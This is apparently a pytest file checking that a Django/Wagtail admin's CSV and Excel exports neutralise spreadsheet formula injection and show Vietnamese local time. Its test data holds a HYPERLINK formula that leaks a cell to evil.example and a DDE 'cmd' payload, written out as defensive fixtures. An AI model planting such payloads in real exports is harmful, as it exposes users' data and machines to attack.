"""What the admin exports runs nowhere (W3), tells Vietnam's time and opens in Excel."""

import csv
import io
import re

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.contrib.search_promotions.models import Query
from wagtail.log_actions import log

from catalog.models import Cooperative
from tests.cast import Cast
from tests.catalog.test_wagtail_admin import enter

pytestmark = pytest.mark.django_db
FORMULAS = ["=1+1", '=hyperlink("http://evil.example/?"&a1,"mật ong")', "@sum(1)", "+1", "-1", " =1", "＝1"]
SEARCHES = "/quan-tri/reports/tim-kiem/"
HISTORY = "/quan-tri/reports/site-history/"


def rows_of(client: Client, path: str) -> list[list[str]]:
    response = client.get(f"{path}?export=csv")
    assert not response.streaming  # a slow reader would hold a web worker
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def editor(cast: Cast) -> Client:
    for words in FORMULAS:
        Query.get(words).add_hit()
    client = Client()
    enter(client, cast.van)
    return client


def test_w3_what_buyers_typed_into_the_search_is_no_formula(editor: Client) -> None:
    found = {row[0] for row in rows_of(editor, SEARCHES)[1:]}
    assert found
    for words in found:
        assert not re.match(r"\s*[=+\-@＝＋－＠]", words), words
    assert "'=1+1" in found


def test_w3_a_name_in_the_history_is_no_formula_and_its_time_is_vietnams(editor: Client, cast: Cast) -> None:
    Cooperative.objects.filter(pk=cast.tea.pk).update(name="=cmd|' /C calc'!A0")
    cast.tea.refresh_from_db()
    entry = log(instance=cast.tea, action="wagtail.edit", user=cast.van)
    cells = [cell for row in rows_of(editor, HISTORY) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith("=")]
    assert f"{timezone.localtime(entry.timestamp):%Y-%m-%d %H:%M:%S}" in cells


def test_w3_excel_files_hold_texts_where_there_were_formulas(editor: Client) -> None:
    book = load_workbook(io.BytesIO(b"".join(editor.get(f"{SEARCHES}?export=xlsx").streaming_content)))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert "'=1+1" in [cell.value for cell in cells]
    assert not [cell for cell in cells if cell.data_type == "f"]
